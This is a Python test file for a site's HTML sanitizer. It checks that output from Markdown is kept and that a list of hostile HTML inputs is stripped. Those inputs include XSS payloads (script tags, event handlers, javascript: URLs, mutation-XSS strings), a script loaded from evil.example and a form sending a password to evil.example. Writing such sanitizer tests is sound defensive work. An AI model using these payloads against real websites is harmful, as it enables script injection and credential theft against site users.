"""Only allowed HTML gets through, and all that our Markdown makes does."""

import re

import pytest
from knowledge.cleaning.allowed import FRAME_IDS, KIND_IDS
from knowledge.cleaning.html import cleaned
from selectolax.lexbor import LexborHTMLParser

from tests.cleaning.converting import html_of
from tests.conftest import ROOT

FEATURES = """
## Heading {#heading}

!!! note "Title"
    An admonition.

??? tip "Title"
    Hidden at first.

???+ tip "Title"
    Shown at first.

=== "One"
    First.

=== "Two"
    Second.

```{.python linenums="1" hl_lines="1" title="a.py"}
print("a" < 3)
```

    <script>code</script>

Term
:   Definition

| a | b |
|:--|--:|
| 1 | 2 |

A note[^1], *emphasis*, **strong**, `code`, <https://example.org/?a=1&b=2>, <me@example.org>, a<br>b,
<kbd>K</kbd> <sup>1</sup> <abbr title="x">y</abbr> <bdi dir="rtl" lang="he">א</bdi> [t](tel:+972-3-1234567)
[here](../a/index.md#b){.gloss} ![a picture](../assets/a.png "title"){.decorative width=10 loading=lazy}

3. three
4. four

> quoted

---

[^1]: The note.
"""


def as_tree(html: str) -> str | None:
    return LexborHTMLParser(html).html


def test_all_that_markdown_makes_stays() -> None:
    html = html_of(FEATURES)
    assert "data-tabs" in html
    assert as_tree(cleaned(html)).replace('<pre tabindex="0">', "<pre>") == as_tree(html)


ROWS = [
    ("<script>alert(1)</script>a", "a"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>a", "a"),
    ("<img src=x onerror=alert(1)>", '<img src="x">'),
    ('<p onclick="alert(1)">a</p>', "<p>a</p>"),
    ('<p style="position:fixed">a</p>', "<p>a</p>"),
    ('<a href="javascript:alert(1)">a</a>', "<a>a</a>"),
    ('<a href="java&#10;script:alert(1)">a</a>', "<a>a</a>"),
    ('<a href="&#1;javascript:alert(1)">a</a>', "<a>a</a>"),
    ('<a href="data:text/html,x">a</a>', "<a>a</a>"),
    ('<a href="vbscript:x">a</a>', "<a>a</a>"),
    ('<a href="tel:+972">a</a>', '<a href="tel:+972">a</a>'),
    ('<a href="https://example.org" target="_blank">a</a>', '<a href="https://example.org">a</a>'),
    ('<a href="/x" rel="opener">a</a>', '<a href="/x">a</a>'),
    ('<iframe src="https://example.org"></iframe>a', "a"),
    ('<form action="https://evil.example"><input name="password"><button>b</button></form>', "b"),
    ("<svg><script>alert(1)</script></svg>a", "a"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", ""),
    ("<base href=//evil.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>a", "a"),
    ("<!-- a --><!--[if IE]><script>alert(1)</script><![endif]-->b", "b"),
    ('<img src="https://tracker.example/p.png">', "<img>"),
    ('<img src="//tracker.example/p.png">', "<img>"),
    ('<img srcset="https://tracker.example/p.png 1x">', "<img>"),
    ('<img src="../assets/a.png">', '<img src="../assets/a.png">'),
    ('<h2 id="main">a</h2>', "<h2>a</h2>"),
    ('<p id="x y">a</p>', "<p>a</p>"),
    ('<p data-share="" data-search="">a</p>', "<p>a</p>"),
    ("a&#x202E;b&#x2066;c&#8232;d", "abcd"),
    ("<p>a", "<p>a</p>"),
    ("</main></body></html>a", "a"),
    ("<title>x</title><textarea><script>alert(1)</script></textarea>a", "a"),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", '<img src="x">"&gt;'),
]  # fmt: skip


@pytest.mark.parametrize(("html", "left"), ROWS)
def test_what_is_not_allowed_goes(html: str, left: str) -> None:
    assert cleaned(html) == left


def with_parts(template: str) -> str:
    """A template and all that it includes or imports."""
    text = (ROOT / "overrides" / template).read_text("utf-8")
    return text + "".join(with_parts(part) for part in sorted(set(re.findall(r'"(partials/[\w-]+\.html)"', text))))


def test_the_ids_of_the_templates_are_kept_from_authors() -> None:
    """Every id that a template writes on a page with a text is in the table, and the other way round."""
    literal = re.compile(r'\sid="([^"{]+)"')
    found = set(literal.findall(with_parts("base.html")))
    assert found <= FRAME_IDS | {"search-input", "search-results"}
    for kind in ("articles", "essays", "talks", "cases", "pages"):
        own = set(literal.findall(with_parts(f"kinds/{kind}.html")))
        found |= own
        assert own <= FRAME_IDS.union(*KIND_IDS.values()), kind
        assert KIND_IDS.get(kind, set()) <= own, kind
    assert FRAME_IDS.union(*KIND_IDS.values()) <= found
